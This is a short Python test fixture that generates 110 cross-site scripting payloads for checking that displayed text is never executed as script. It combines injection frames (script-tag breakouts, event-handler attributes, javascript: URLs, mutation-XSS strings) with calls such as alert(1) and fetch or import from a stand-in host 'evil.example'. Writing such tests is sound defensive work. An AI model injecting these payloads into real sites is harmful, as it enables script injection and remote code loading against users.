"""Texts that would run as a script where somebody shows them as they are (trust.md T50, T51)."""

# What must never run, in 110 spellings.
CALLS = ["canary()", "top.canary()", "alert(1)", "fetch('http://evil.example/')", "import('http://evil.example/x.js')"]
FRAMES = [
    "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "javascript:{}", '"><script>{}</script>', "'><img src=x onerror=\"{}\">", "&lt;script&gt;{}&lt;/script&gt;",
    "&quot;><script>{}</script>", "\u2028{}\u2029", "{{{{{}}}}}", "${{{}}}", "<iframe srcdoc='<script>{}</script>'>",
    "<style>*{{background:url(javascript:{})}}</style>", "<a href='javascript:{}'>", "<!--<script>{}</script>-->",
    "]]><script>{}</script>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<object data='javascript:{}'>", "<body onload={}>", "<details open ontoggle={}>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
]  # fmt: skip
PAYLOADS = [frame.format(call) for frame in FRAMES for call in CALLS]
